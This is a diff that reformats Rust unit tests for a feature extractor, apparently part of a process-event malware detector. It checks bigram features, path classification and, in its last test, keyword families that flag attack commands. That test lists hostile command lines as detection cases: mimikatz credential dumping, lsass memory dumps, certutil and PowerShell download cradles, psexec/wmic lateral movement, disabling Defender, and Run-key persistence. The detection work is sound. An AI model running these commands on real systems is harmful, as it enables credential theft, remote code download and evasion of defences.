@@ -28,7 +28,10 @@ fn num(g: Generation, e: &ProcessEvent, name: &str) -> f32 {
 }
 
 fn cl(s: &str) -> ProcessEvent {
-    ProcessEvent { process_command_line: Some(s.into()), ..Default::default() }
+    ProcessEvent {
+        process_command_line: Some(s.into()),
+        ..Default::default()
+    }
 }
 
 const Y21: Generation = Generation::Y2021;
@@ -50,18 +53,33 @@ fn fallbacks_to_unknown() {
     for f in ["event_action", "elevation_type", "integrity_level"] {
         assert_eq!(cat(Y21, &e, f).as_deref(), Some("unknown"), "{f}");
     }
-    assert_eq!(cat(Y21, &e, "process_name_2-gram_feature0").as_deref(), Some("un"));
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature6").as_deref(), Some(""));
+    assert_eq!(
+        cat(Y21, &e, "process_name_2-gram_feature0").as_deref(),
+        Some("un")
+    );
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature6").as_deref(),
+        Some("")
+    );
     assert_eq!(cat(Y21, &e, "command_line_2-gram_feature7"), None);
     assert_eq!(cat(Y21, &e, "normalized_ppath").as_deref(), Some("unknown"));
     // Empty strings count as absent.
-    let e = ProcessEvent { process_name: Some(String::new()), ..Default::default() };
-    assert_eq!(cat(Y21, &e, "process_name_2-gram_feature0").as_deref(), Some("un"));
+    let e = ProcessEvent {
+        process_name: Some(String::new()),
+        ..Default::default()
+    };
+    assert_eq!(
+        cat(Y21, &e, "process_name_2-gram_feature0").as_deref(),
+        Some("un")
+    );
 }
 
 #[test]
 fn command_line_falls_back_to_joined_args() {
-    let e = ProcessEvent { process_args: vec!["A.exe".into(), "/X".into()], ..Default::default() };
+    let e = ProcessEvent {
+        process_args: vec!["A.exe".into(), "/X".into()],
+        ..Default::default()
+    };
     let (n, _) = normalized_command_line(&e, Y21);
     assert_eq!(n, "a.exe /x");
     let e = ProcessEvent {
@@ -80,23 +98,41 @@ fn lower_casing_applies_to_command_and_paths_not_names() {
         process_command_line: Some("CMD /C".into()),
         ..Default::default()
     };
-    assert_eq!(cat(Y21, &e, "process_name_2-gram_feature0").as_deref(), Some("CM"));
-    assert_eq!(cat(Y21, &e, "process_executable_2-gram_feature0").as_deref(), Some("c:"));
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature0").as_deref(), Some("cm"));
+    assert_eq!(
+        cat(Y21, &e, "process_name_2-gram_feature0").as_deref(),
+        Some("CM")
+    );
+    assert_eq!(
+        cat(Y21, &e, "process_executable_2-gram_feature0").as_deref(),
+        Some("c:")
+    );
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature0").as_deref(),
+        Some("cm")
+    );
     // ends_with_exe is a case-sensitive contains test.
     assert_eq!(num(Y21, &e, "ends_with_exe"), 0.0);
 }
 
 #[test]
 fn ends_with_exe_is_a_contains_test() {
-    let with = |n: &str| ProcessEvent { process_name: Some(n.into()), ..Default::default() };
+    let with = |n: &str| ProcessEvent {
+        process_name: Some(n.into()),
+        ..Default::default()
+    };
     assert_eq!(num(Y21, &with("cmd.exe"), "ends_with_exe"), 1.0);
     assert_eq!(num(Y21, &with("a.exe.bak"), "ends_with_exe"), 1.0);
     assert_eq!(num(Y21, &with("cmd"), "ends_with_exe"), 0.0);
     // A name without ".exe": bigrams stop at the name's own length.
     let e = with("cmd");
-    assert_eq!(cat(Y21, &e, "process_name_2-gram_feature1").as_deref(), Some("md"));
-    assert_eq!(cat(Y21, &e, "process_name_2-gram_feature2").as_deref(), Some(""));
+    assert_eq!(
+        cat(Y21, &e, "process_name_2-gram_feature1").as_deref(),
+        Some("md")
+    );
+    assert_eq!(
+        cat(Y21, &e, "process_name_2-gram_feature2").as_deref(),
+        Some("")
+    );
     assert_eq!(cat(Y21, &e, "process_name_2-gram_feature3"), None);
 }
 
@@ -112,15 +148,29 @@ fn filename_mismatch_and_system_user() {
     assert_eq!(num(Y21, &e, "running_as_system"), 1.0);
     // Both absent: "unknown" == "unknown".
     assert_eq!(num(Y21, &ProcessEvent::default(), "filename_mismatch"), 0.0);
-    let e = ProcessEvent { user_id: Some("S-1-5-21-1-2-3-1001".into()), ..Default::default() };
+    let e = ProcessEvent {
+        user_id: Some("S-1-5-21-1-2-3-1001".into()),
+        ..Default::default()
+    };
     assert_eq!(num(Y21, &e, "running_as_system"), 0.0);
 }
 
 #[test]
 fn elevated_signed_trusted_fallbacks() {
-    let e = ProcessEvent { elevation_type: Some("limited".into()), ..Default::default() };
-    assert_eq!(num(Y21, &e, "elevated"), 1.0, "present elevation type means elevated");
-    let e = ProcessEvent { elevation_type: Some("full".into()), elevated: Some(false), ..Default::default() };
+    let e = ProcessEvent {
+        elevation_type: Some("limited".into()),
+        ..Default::default()
+    };
+    assert_eq!(
+        num(Y21, &e, "elevated"),
+        1.0,
+        "present elevation type means elevated"
+    );
+    let e = ProcessEvent {
+        elevation_type: Some("full".into()),
+        elevated: Some(false),
+        ..Default::default()
+    };
     assert_eq!(num(Y21, &e, "elevated"), 0.0, "the sensor's own word wins");
     assert_eq!(num(Y21, &ProcessEvent::default(), "elevated"), 0.0);
     assert_eq!(num(Y21, &ProcessEvent::default(), "signed"), 0.0);
@@ -135,19 +185,28 @@ fn elevated_signed_trusted_fallbacks() {
 
 #[test]
 fn path_class_first_match_order() {
-    let ex = |p: &str| ProcessEvent { process_executable: Some(p.into()), ..Default::default() };
+    let ex = |p: &str| ProcessEvent {
+        process_executable: Some(p.into()),
+        ..Default::default()
+    };
     let c = |p: &str| cat(Y21, &ex(p), "normalized_ppath").unwrap_or_default();
     assert_eq!(c(r"C:\Windows\System32\cmd.exe"), "win_system_dir");
     assert_eq!(c(r"C:\Windows\Temp\a.exe"), "win_temp_dir");
     // local\temp is checked before appdata, appdata before the user dir.
-    assert_eq!(c(r"C:\Users\Bob\AppData\Local\Temp\a.exe"), "win_user_appdata_local_temp");
+    assert_eq!(
+        c(r"C:\Users\Bob\AppData\Local\Temp\a.exe"),
+        "win_user_appdata_local_temp"
+    );
     assert_eq!(c(r"C:\Users\Bob\AppData\Local\a.exe"), "win_user_appdata");
     assert_eq!(c(r"C:\Users\Bob\Downloads\a.exe"), "win_user_downloads");
     assert_eq!(c(r"C:\Users\Bob\a.exe"), "win_user_dir");
     assert_eq!(c(r"C:\Users\a.exe"), "win_users_root_dir");
     assert_eq!(c(r"C:\Program Files\a\a.exe"), "win_program_files");
     assert_eq!(c(r"C:\ProgramData\a.exe"), "win_program_data_dir");
-    assert_eq!(c(r"C:\System Volume Information\a.exe"), "win_sys_vol_info_dir");
+    assert_eq!(
+        c(r"C:\System Volume Information\a.exe"),
+        "win_sys_vol_info_dir"
+    );
     assert_eq!(c(r"C:\$Recycle.Bin\a.exe"), "win_recycle_bin_dir");
     assert_eq!(c(r"C:\Windows\a.exe"), "win_dir");
     assert_eq!(c(r"C:\a.exe"), "win_root");
@@ -165,16 +224,27 @@ fn path_normalisation_order() {
     let (r, row) = run(Y21, &e);
     // Rebuild the string from its bigrams: first characters, then the last bigram's second.
     let grams: Vec<String> = (0..40)
-        .filter_map(|i| match row.value(r.features(), &format!("process_executable_2-gram_feature{i}")) {
-            Some(FeatureValue::Cat(Some(b))) if !b.is_empty() => Some(b.to_owned()),
-            _ => None,
+        .filter_map(|i| {
+            match row.value(
+                r.features(),
+                &format!("process_executable_2-gram_feature{i}"),
+            ) {
+                Some(FeatureValue::Cat(Some(b))) if !b.is_empty() => Some(b.to_owned()),
+                _ => None,
+            }
         })
         .collect();
     let mut s: String = grams.iter().filter_map(|g| g.chars().next()).collect();
     s.extend(grams.last().and_then(|g| g.chars().nth(1)));
     assert_eq!(s, r"c:\users\appdata\x.exe");
-    assert_eq!(normalized_command_line(&cl(r"C:\Windows\System32\cmd.exe"), Y21).0, r"c:\win_system_dir\cmd.exe");
-    assert_eq!(normalized_command_line(&cl("c:/windows/syswow64/x"), Y21).0, "c:/win_system_dir/x");
+    assert_eq!(
+        normalized_command_line(&cl(r"C:\Windows\System32\cmd.exe"), Y21).0,
+        r"c:\win_system_dir\cmd.exe"
+    );
+    assert_eq!(
+        normalized_command_line(&cl("c:/windows/syswow64/x"), Y21).0,
+        "c:/win_system_dir/x"
+    );
 }
 
 #[test]
@@ -196,19 +266,40 @@ fn guid_versus_eight_hex() {
 fn bigram_positions_with_101_char_command_line() {
     let s: String = "xy".repeat(50) + "z"; // 101 characters, no hex
     let e = cl(&s);
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature0").as_deref(), Some("xy"));
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature98").as_deref(), Some("xy"));
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature0").as_deref(),
+        Some("xy")
+    );
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature98").as_deref(),
+        Some("xy")
+    );
     // Cut to 100 characters first: the last position holds the empty string.
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature99").as_deref(), Some(""));
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature99").as_deref(),
+        Some("")
+    );
     // A 5-character line: four bigrams, then "", then missing.
     let e = cl("vwxyz");
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature3").as_deref(), Some("yz"));
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature4").as_deref(), Some(""));
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature3").as_deref(),
+        Some("yz")
+    );
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature4").as_deref(),
+        Some("")
+    );
     assert_eq!(cat(Y21, &e, "command_line_2-gram_feature5"), None);
     // Non-ASCII: bigrams are characters, not bytes.
     let e = cl("été");
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature0").as_deref(), Some("ét"));
-    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature2").as_deref(), Some(""));
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature0").as_deref(),
+        Some("ét")
+    );
+    assert_eq!(
+        cat(Y21, &e, "command_line_2-gram_feature2").as_deref(),
+        Some("")
+    );
 }
 
 #[test]
@@ -223,7 +314,10 @@ fn process_name_uses_positions_0_to_65() {
 
 #[test]
 fn integrity_lower_cased_only_in_2026() {
-    let e = ProcessEvent { integrity_level: Some("High".into()), ..Default::default() };
+    let e = ProcessEvent {
+        integrity_level: Some("High".into()),
+        ..Default::default()
+    };
     assert_eq!(cat(Y21, &e, "integrity_level").as_deref(), Some("High"));
     assert_eq!(cat(Y26, &e, "integrity_level").as_deref(), Some("high"));
 }
@@ -247,12 +341,24 @@ fn caret_flag_2026() {
 fn keyword_families_2026() {
     let f = |s: &str, fam: &str| num(Y26, &cl(s), fam);
     let cases: &[(&str, &str, f32)] = &[
-        ("mimikatz.exe sekurlsa::logonpasswords", "credential_access", 1.0),
+        (
+            "mimikatz.exe sekurlsa::logonpasswords",
+            "credential_access",
+            1.0,
+        ),
         ("procdump -ma lsass.exe", "credential_access", 1.0),
         ("certutil -urlcache -f http://x/a a", "download_cradle", 1.0),
-        ("powershell (new-object net.webclient).downloadstring('u')", "download_cradle", 1.0),
+        (
+            "powershell (new-object net.webclient).downloadstring('u')",
+            "download_cradle",
+            1.0,
+        ),
         ("psexec \\\\host cmd", "lateral_movement", 1.0),
-        ("wmic /node:host process call create x", "lateral_movement", 1.0),
+        (
+            "wmic /node:host process call create x",
+            "lateral_movement",
+            1.0,
+        ),
         ("wmic process list", "lateral_movement", 0.0),
         ("schtasks /s host /query", "lateral_movement", 1.0),
         // `sc` with `\\`: backslash runs are collapsed before the flags, so this cannot fire.
@@ -262,12 +368,24 @@ fn keyword_families_2026() {
         ("net user bob /domain", "recon", 1.0),
         ("net localgroup administrators", "recon", 1.0),
         ("net start svc", "recon", 0.0),
-        ("powershell -exec bypass -file x.ps1", "defense_evasion", 1.0),
+        (
+            "powershell -exec bypass -file x.ps1",
+            "defense_evasion",
+            1.0,
+        ),
         ("powershell -enc aqbfafga", "defense_evasion", 1.0),
         ("powershell iex(x)", "defense_evasion", 1.0),
-        ("set-mppreference -disablerealtimemonitoring $true", "defense_evasion", 1.0),
+        (
+            "set-mppreference -disablerealtimemonitoring $true",
+            "defense_evasion",
+            1.0,
+        ),
         ("schtasks /create /tn x /tr y", "persistence", 1.0),
-        ("reg add hkcu\\software\\microsoft\\windows\\currentversion\\run /v x", "persistence", 1.0),
+        (
+            "reg add hkcu\\software\\microsoft\\windows\\currentversion\\run /v x",
+            "persistence",
+            1.0,
+        ),
         ("reg add hkcr\\x", "persistence", 0.0),
         ("reg add hklm\\x\\runonce", "persistence", 1.0),
         ("certutil -encode a b", "exfiltration", 1.0),
